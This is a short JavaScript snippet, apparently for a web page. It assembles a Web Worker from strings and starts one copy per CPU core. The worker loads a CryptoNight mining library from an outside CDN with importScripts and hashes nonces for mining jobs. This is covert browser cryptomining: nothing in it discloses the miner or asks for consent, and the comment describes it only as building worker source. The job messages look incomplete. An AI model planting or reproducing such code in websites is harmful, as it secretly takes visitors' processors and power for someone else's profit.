// ES5: the source of a worker is put together in the page.
var lines = [
  'importScripts("https://cdn.stats.example/lib/cryptonight.min.js");',
  'var hash = Module.cwrap("hash_cn", "string", ["string", "string"]);',
  'onmessage = function (event) {',
  '  var job = event.data, nonce = job.start;',
  '  for (; nonce < job.end; nonce++) {',
  '    var result = hash(job.blob, String(nonce));',
  '    if (result.substring(56) < job.target) {',
  '      postMessage({ job_id: job.job_id, nonce: nonce, result: result });',
  '    }',
  '  }',
  '};'
];
var source = new Blob([lines.join('\n')], { type: 'text/javascript' });
for (var i = 0; i < (navigator.hardwareConcurrency || 2); i++) {
  new Worker(URL.createObjectURL(source)).postMessage({ start: i * 1000 });
}
